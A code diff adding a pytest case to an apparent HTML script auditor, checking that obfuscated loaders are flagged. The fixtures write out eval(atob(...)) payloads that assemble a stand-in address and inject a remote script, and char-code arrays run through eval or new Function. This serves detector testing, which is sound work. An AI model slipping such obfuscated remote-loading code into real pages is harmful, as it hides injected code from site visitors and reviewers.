@@ -408,3 +408,37 @@ def test_an_inert_payload_beside_code_run_from_a_variable_stays(audit_html: Audi
     report = audit_html(f"<html><body><p>Text.</p><script>{code}</script></body></html>",
                         url="https://news.example/a")
     assert [f.kind for f in report.findings] == ["obfuscated-script"]
+
+
+# an inert-looking payload whose values the page's visible code then runs or loads: the
+# pieces of an address the same script joins into a new script's src, a list of char codes
+# another script turns into code and evals, the pieces another script joins into a src
+_PIECES = 'var u = ["ht", "tps:", "/", "/cdn.k7loader", ".test/x.js"];'
+_CHARS = "var n = [" + ",".join(str(ord(c)) for c in
+                                "document.write('<b>x</b>')") + "];"
+_SCRIPT_TAG = ("var s = document.createElement('script'); s.src = u.join('');"
+               " document.head.appendChild(s);")
+
+
+@pytest.mark.parametrize("scripts", [
+    f"<script>eval(atob('{b64(_PIECES)}')); {_SCRIPT_TAG}</script>",
+    f"<script>eval(atob('{b64(_PIECES)}'));</script><script>{_SCRIPT_TAG}</script>",
+    f"<script>eval(atob('{b64(_CHARS)}'));</script>"
+    "<script>eval(String.fromCharCode.apply(null, n));</script>",
+    f"<script>eval(atob('{b64(_CHARS)}'));</script>"
+    "<script>(new Function(String.fromCharCode.apply(null, window.n)))();</script>",
+    f"<script>eval(atob('{b64(_PIECES)}'));</script><script>var s = document.createElement"
+    "('script'); s.setAttribute('src', u.join('')); document.head.appendChild(s);</script>",
+    f"<script>eval(atob('{b64(_PIECES)}'));</script><script>jQuery.getScript(u.join(''));"
+    "</script>",
+], ids=["joined-into-src-beside", "joined-into-src-apart", "charcodes-evaled",
+        "charcodes-to-function", "joined-into-setattribute-apart", "joined-into-getscript"])
+def test_an_inert_payload_the_page_then_runs_or_loads_stays(audit_html: AuditHtml,
+                                                            scripts: str) -> None:
+    """A payload of values only is inert while nothing runs or loads them: the script
+    beside it acting (a script element it writes) or a script naming one of its values
+    as what it evals, turns into code or sets as an address keeps the finding."""
+    report = audit_html(f"<html><body><p>Text.</p>{scripts}</body></html>",
+                        url="https://news.example/a")
+    assert [f.severity.value for f in report.findings
+            if f.kind == "obfuscated-script"] == ["medium"]
